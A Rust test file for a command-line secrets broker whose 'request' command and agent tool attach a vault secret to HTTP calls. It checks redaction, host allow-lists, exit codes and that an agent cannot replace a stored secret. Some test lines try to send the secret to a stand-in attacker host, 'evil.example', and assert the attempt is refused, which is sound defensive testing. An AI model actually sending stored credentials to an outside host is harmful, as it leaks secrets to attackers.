//! `request`: what agents do with http_request, for people and scripts, with a vault that they share.

use serde_json::json;

use super::at_loopback;
use crate::support::broker::Launch;
use crate::support::command::{on_terminal, run};
use crate::support::raw::Raw;

const KEY: &str = "k-0123456789abcdef";

/// A vault with the value `key`, stored by a person.
async fn with_vault(toml: &str) -> Launch {
    let launch = Launch::new().toml(toml);
    let key_file = launch.home().join("vault.key").display().to_string();
    run(&launch, &["vault", "init", "--key-file", &key_file], b"").await.ok();
    run(&launch, &["secrets", "set", "key"], format!("{KEY}\n").as_bytes()).await.ok();
    launch
}

#[tokio::test]
async fn a_person_and_an_agent_spend_the_same_secret_by_the_same_rules() {
    let server = Raw::answering("200 OK", "content-type: text/plain\r\n", format!("you said {KEY}")).await;
    let launch = with_vault(&at_loopback(server.address().port(), "kind = \"static\"\nheaders = [\"x-team\"]")).await;
    let url = format!("http://{}/v1?x=1", server.address());
    let done =
        run(&launch, &["request", "--secret", "key", "-X", "POST", "-H", "x-team: a", "-d", "@-", "-i", &url], b"hello").await;
    assert_eq!(done.ok(), "HTTP 200\ncontent-type: text/plain\n\nyou said [secret:key]");
    let sent = server.last_request();
    assert!(sent.starts_with("POST /v1?x=1 ") && sent.ends_with("\r\n\r\nhello") && sent.contains("x-team: a\r\n"), "{sent}");
    assert!(sent.contains(&format!("authorization: Bearer {KEY}\r\n")), "{sent}");

    let asked = server.connections();
    for (arguments, code) in [
        (["--secret", "key", "https://evil.example/"], 3),
        (["--secret", "nobody", url.as_str()], 2),
        (["--secret", "key", "not a URL"], 2),
    ] {
        let done = run(&launch, &[&["request"], &arguments[..]].concat(), b"").await;
        assert!(!done.failed(code).contains(KEY));
    }
    let refused = run(&launch, &["request", "--secret", "key", "https://evil.example:8443/x"], b"").await.failed(3);
    assert!(refused.contains(&server.address().to_string()), "where it may be spent: {refused}");
    run(&launch, &["secrets", "set", "free"], b"0123456789").await.ok();
    let refused = run(&launch, &["request", "--secret", "free", "https://api.openai.com:8443/x"], b"").await.failed(3);
    let line = "Add to broker.toml, below [secrets.\"free\"]: hosts = [\"api.openai.com:8443\"]";
    assert!(refused.contains(line) && !refused.contains("operator"), "{refused}");
    assert_eq!(server.connections(), asked);

    // the agent of the same person: it spends the value, and cannot put another in its place
    let mut broker = launch.ready().await;
    let spend = json!({ "url": url, "secret": "key", "purpose": "a test" });
    assert_eq!(broker.call("http_request", spend).await.ok()["body"], "you said [secret:key]");
    broker.call("store_secret", json!({ "name": "key", "value": "another value" })).await.refused("not_allowed");
    broker.assert_unseen(&[KEY]);
}

#[tokio::test]
async fn an_answer_is_a_document_for_programs_and_a_whole_line_on_a_terminal() {
    let server = Raw::answering("404 Not Found", "content-type: text/plain\r\nx-a: 1\r\n", format!("no {KEY}")).await;
    let launch = with_vault(&at_loopback(server.address().port(), "")).await;
    let url = format!("http://{}/", server.address());
    let done = run(&launch, &["request", "--json", "--secret", "key", &url], b"").await;
    let document: serde_json::Value = serde_json::from_str(&done.stdout).unwrap_or_else(|_| panic!("{done:?}"));
    assert_eq!((&document["status"], &document["body"]), (&json!(404), &json!("no [secret:key]")), "{document}");
    assert_eq!((&document["headers"]["content-type"], &document["total"]), (&json!("text/plain"), &json!(15)), "{document}");
    assert!(done.failed(5).contains("404"));

    let (shown, code) = on_terminal(&launch, &["request", "--secret", "key", &url], "nobody asks", "").await;
    assert!(code == 5 && shown.contains("no [secret:key]\r\nError: "), "{shown}");

    let server = Raw::answering("200 OK", "content-type: application/octet-stream\r\n", vec![0xff_u8, 0x00, 0x01]).await;
    let launch = with_vault(&at_loopback(server.address().port(), "")).await;
    let url = format!("http://{}/", server.address());
    let document = run(&launch, &["request", "--json", "--secret", "key", &url], b"").await.json();
    assert_eq!((&document["bodyBase64"], &document["total"]), (&json!("/wAB"), &json!(3)), "{document}");
    assert!(document.get("body").is_none());
}

#[tokio::test]
async fn an_error_status_is_shown_and_told_by_the_exit_code() {
    let server = Raw::answering("404 Not Found", "", "nothing here").await;
    let launch = with_vault(&at_loopback(server.address().port(), "")).await;
    let done = run(&launch, &["request", "--secret", "key", &format!("http://{}/", server.address())], b"").await;
    assert_eq!(done.stdout, "nothing here");
    assert!(done.failed(5).contains("404"));
}
